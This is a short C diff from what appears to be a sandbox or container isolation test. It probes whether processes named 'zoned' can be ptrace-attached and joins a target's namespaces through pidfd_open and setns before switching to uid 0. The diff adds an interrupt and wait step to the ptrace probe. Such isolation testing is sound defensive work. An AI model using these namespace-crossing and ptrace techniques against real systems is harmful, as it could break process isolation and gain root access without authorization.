@@ -34,19 +34,19 @@ static void look(int pid)
 		snprintf(path, sizeof path, "/proc/%d/comm", pid);
 		int fd = open(path, O_RDONLY);
 		if (read(fd, name, sizeof name - 1) > 0 && !strncmp(name, "zoned", 5)) escaped("ptrace", "%d %s", pid, name);
-		close(fd);
+		if (fd >= 0) close(fd);
+		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
+		waitpid(pid, 0, __WALL);
 		ptrace(PTRACE_DETACH, pid, 0, 0);
 	}
 }
 
 static int badly(const char *pid)
 {
-	char path[64];
 	int top = open("/", O_RDONLY | O_DIRECTORY);
 	int zone = sc(SYS_pidfd_open, atoi(pid), 0);
 	(void)top;
 	if (setns(zone, CLONE_NEWPID) || setns(zone, CLONE_NEWUSER | CLONE_NEWNS)) return perror("setns"), 1;
-	snprintf(path, sizeof path, "%d", 0);
 	pid_t child = fork();
 	if (child == 0) {
 		if (setresgid(0, 0, 0) || setresuid(0, 0, 0) || prctl(PR_SET_DUMPABLE, 1)) _exit(1);
